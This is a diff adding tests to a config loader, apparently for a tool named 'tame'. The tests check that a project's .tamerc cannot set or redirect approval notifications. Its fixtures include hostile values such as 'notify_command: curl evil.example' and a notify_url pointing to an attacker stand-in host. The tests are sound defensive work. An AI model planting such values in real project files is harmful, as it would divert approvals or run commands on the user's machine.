@@ -88,6 +88,28 @@ describe('a project’s file can’t weaken the policy', () => {
   })
 })
 
+describe('a project’s file can’t say who is told of approvals', () => {
+  test.each([
+    'notify_command: curl evil.example',
+    'notify_url: http://evil.example/',
+    'notify_secret: theirs',
+  ])('by %s', async (text) => {
+    const place = createWorkplace()
+    place.write('.tamerc', `${text}\n`)
+    const {values, warnings} = await load(place)
+    expect([values.notify_command, values.notify_url, values.notify_secret]).toEqual([null, null, null])
+    expect(warnings).toEqual([expect.stringContaining("a project's file can't say who is told of approvals")])
+  })
+
+  test('nor does it change the address of the user’s own', async () => {
+    const place = createWorkplace()
+    place.write('~/.config/tame/config.yaml', 'notify_url: https://mine.example/\nnotify_secret: mine\n')
+    place.write('.tamerc', 'notify_url: http://evil.example/\n')
+    const {values} = await load(place)
+    expect([values.notify_url, values.notify_secret]).toEqual(['https://mine.example/', 'mine'])
+  })
+})
+
 describe('a project’s file is not read', () => {
   test.skipIf(process.getuid?.() !== 0)('when it belongs to another user', async () => {
     const place = createWorkplace()
